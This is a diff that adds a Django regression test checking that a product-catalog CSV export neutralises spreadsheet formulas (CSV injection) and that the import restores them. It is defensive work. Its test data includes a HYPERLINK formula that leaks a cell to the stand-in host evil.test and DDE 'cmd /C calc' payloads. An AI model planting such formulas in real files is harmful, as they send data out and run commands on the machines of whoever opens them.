@@ -1,3 +1,6 @@
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 from django_tenants.utils import tenant_context
@@ -172,3 +175,28 @@ def test_a_refused_file_is_a_service_error_with_every_line_on_the_file_input(in_
     assert body["fields"]["file"][0] == "Line 2: The name is empty."
     assert body["fields"]["file"][1].startswith("Line 3: The price “x” is not a price")
     assert exc.value.summary == "The file has 2 problems; nothing was imported."
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_the_export_neutralises_cells_a_spreadsheet_would_run_and_the_import_reads_them_back(in_tenant):
+    """Issue 12, finding 6: names starting with =, +, - or @ came out unchanged (CSV injection)."""
+    category = f.category("=cmd|'/C calc'!A0")
+    for n, name in enumerate(FORMULAS):
+        f.product(category_=category, name=name, sku=f"F{n}", price_minor=10000 + n)
+    f.product(category_=category, name="'=already quoted", sku="FQ", price_minor=5000)
+    exported = "".join(csv_io.catalog_export_lines(currency_code="IDR"))
+    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells
+    names = {row[2]: row[1] for row in rows[1:]}
+    assert names["F0"] == "'" + FORMULAS[0] and names["F3"] == "'@SUM(A1:A9)"
+    assert names["FQ"] == "''=already quoted"  # so that reading it back gives the name exactly
+    assert {row[0] for row in rows[1:]} == {"'=cmd|'/C calc'!A0"}
+
+    result = run(exported.encode("utf-8"))  # the import takes back what the export wrote, unchanged
+    assert result.products_unchanged == len(FORMULAS) + 1 and result.products_updated == 0
+    assert result.categories_created == 0
+    assert Product.objects.get(sku="F1").name == FORMULAS[1]
+    assert Product.objects.get(sku="FQ").name == "'=already quoted"
